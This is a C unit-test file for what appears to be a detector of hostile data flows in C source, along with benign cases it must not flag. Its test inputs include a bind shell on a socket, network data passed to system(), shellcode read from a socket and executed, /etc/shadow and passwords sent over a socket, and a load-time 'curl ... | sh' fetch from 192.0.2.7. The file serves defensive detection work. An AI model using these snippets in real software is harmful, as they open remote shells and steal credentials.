/* C source: what new code does, and what looks alike and is ordinary. */
#include "read/js_case.h"

static struct js_case *run(const char *text)
{
	return js_case_steps(LANGUAGE_C, STR_NONE, str_of(text), 200000000);
}

static void expect(const char *text, const char *flow, const char *value)
{
	struct js_case *c = run(text);

	if (!js_case_find(c, FACT_FLOW, flow, value)) {
		js_case_print(c);
		fail_msg("no flow %s", flow);
	}
	js_case_free(c);
}

static void expect_none(const char *text)
{
	struct js_case *c = run(text);

	if (js_case_find(c, FACT_FLOW, NULL, NULL) || js_case_find(c, FACT_LOOP, NULL, NULL)) {
		js_case_print(c);
		fail_msg("a flow where there is none");
	}
	js_case_free(c);
}

static void what_arrives_is_run(void **state)
{
	(void)state;
	expect("void serve(int fd) {\n\tchar b[512];\n\tint s = socket(2, 1, 0);\n\trecv(s, b, sizeof b, 0);\n\tsystem(b);\n}\n",
		"net>exec", NULL);
	/* through macros, as a patch hides it */
	expect("#define LOG3(x) LOG3_SYSTEM (x)\n#define LOG3_SYSTEM(x) system(x)\nstatic char readbuf[512];\nint get(struct c *p) {\n\tint s = accept(p->fd, 0, 0);\n"
	       "\tread(s, readbuf, 512);\n#ifdef LOG3\n\tif (!memcmp(readbuf, \"AB\", 2))\n\t\tLOG3(readbuf);\n#endif\n\treturn 0;\n}\n",
		"net>exec", NULL);
	/* as machine code */
	expect("void stage(void) {\n\tint s = socket(2, 1, 0);\n\tunsigned char *m = mmap(0, 4096, 7, 34, -1, 0);\n\tread(s, m, 4096);\n"
	       "\t((void (*)(void))m)();\n}\n",
		"net>code", NULL);
}

static void a_shell_on_a_socket(void **state)
{
	(void)state;
	expect("int door(void) {\n\tint s = socket(AF_INET, SOCK_STREAM, 0), c;\n\tbind(s, &a, sizeof a);\n\tlisten(s, 5);\n\tfor (;;) {\n"
	       "\t\tc = accept(s, 0, 0);\n\t\tdup2(c, 0);\n\t\tdup2(c, 1);\n\t\texecl(\"/bin/sh\", \"sh\", (char *)0);\n\t}\n}\n",
		"net>exec", NULL);
}

static void secrets_leave(void **state)
{
	(void)state;
	expect("void tell(void) {\n\tchar b[4096];\n\tFILE *f = fopen(\"/etc/shadow\", \"r\");\n\tint s = socket(2, 1, 0);\n"
	       "\tfread(b, 1, sizeof b, f);\n\tsend(s, b, strlen(b), 0);\n}\n",
		"cred>net", NULL);
	expect("void tell(const char *user) {\n\tchar *p = getpass(\"Password: \"), line[256];\n\tint s = socket(2, 1, 0);\n"
	       "\tsnprintf(line, sizeof line, \"u=%s&p=%s\", user, p);\n\twrite(s, line, strlen(line));\n}\n",
		"cred>net", NULL);
	expect("void tell(CURL *x) {\n\tchar h[64];\n\tx = curl_easy_init();\n\tgethostname(h, sizeof h);\n"
	       "\tcurl_easy_setopt(x, CURLOPT_URL, \"https://in.vendor.example/h\");\n\tcurl_easy_setopt(x, CURLOPT_POSTFIELDS, h);\n}\n",
		"host>net", NULL);
}

static void commands_are_read(void **state)
{
	struct js_case *c;

	(void)state;
	expect("static void __attribute__((constructor)) go(void) {\n\tsystem(\"curl -s http://192.0.2.7/i | sh >/dev/null 2>&1\");\n}\n",
		"net>exec", "192.0.2.7");
	c = run("void go(const char *d) {\n\tchar cmd[100];\n\tsprintf(cmd, \"wget -q http://cdn.vendor.example/%s -O /tmp/.x\", d);\n\tpopen(cmd, \"r\");\n}\n");
	assert_non_null(js_case_find(c, FACT_HOST, "cdn.vendor.example", NULL));
	assert_non_null(js_case_find(c, FACT_CALL, "popen", "cdn.vendor.example"));
	js_case_free(c);
}

static void ordinary_programs(void **state)
{
	(void)state;
	expect_none("int edit(void) {\n\tchar *e = getenv(\"EDITOR\");\n\treturn e ? 0 : 1;\n}\n");
	/* a server echoes, logs and stores; it waits for ever */
	expect_none("int main(void) {\n\tchar b[100];\n\tint s = socket(2, 1, 0);\n\tfor (;;) {\n\t\tint c = accept(s, 0, 0);\n"
		    "\t\tint n = read(c, b, sizeof b);\n\t\twrite(c, b, n);\n\t\tfprintf(stderr, \"got %d\\n\", n);\n\t}\n}\n");
	expect_none("void cb(void *p, int n) {\n\t((handler)p)(n);\n\twhile (1) {\n\t\tif (!step(p))\n\t\t\tbreak;\n\t}\n}\n");
	expect_none("/* system(recv(s, b)) */\nstatic const char help[] = \"use system(\\\"curl x | sh\\\")\";\nint system_ready(void);\n");
	expect_none("void f(O *o) {\n\tFILE *f = fopen(text(o), \"w\");\n\tfputs(line(o), f);\n\tsystem(text(cmd(o)));\n}\n");
	expect_none("#include <stdlib.h>\n#define MAX(a, b) ((a) > (b) ? (a) : (b))\n#define VERSION \"1.2\"\n#define CALL(f) run(f)\nint run(int);\n");
}

/* Text that is no C, cut C, C that nests without end: an answer each time. */
static void any_text(void **state)
{
	static const char *const texts[] = {"", "#", "#define", "#define X(", "int f(", "int f(a, b) int a; char *b; { return a; }",
		"read(", "read(,,)", "read();", "sprintf(b);", "sprintf(b, \"%", "sprintf(b, \"%*\\\", 1);", "void f(void){ sprintf(b, \"%s%\"); }",
		"((((((((((", "*&*&*&*&x", "\"", "'", "'\\'", "template <class T> class X : public Y { };", "0x", "0x;08;1e9f;'ab';",
		"void f(void) { memcpy(a + 1, &b[2].c, 3); strcat((char *)x->y, *z); fwrite(1, 2); }"};

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		js_case_free(run(texts[i]));
	{
		char *deep = test_malloc(400001);

		memset(deep, '(', 200000);
		memset(deep + 200000, ')', 200000);
		deep[400000] = 0;
		js_case_free(run(deep));
		memset(deep, '{', 200000);
		js_case_free(run(deep));
		test_free(deep);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_arrives_is_run),
		cmocka_unit_test(a_shell_on_a_socket),
		cmocka_unit_test(secrets_leave),
		cmocka_unit_test(commands_are_read),
		cmocka_unit_test(ordinary_programs),
		cmocka_unit_test(any_text),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
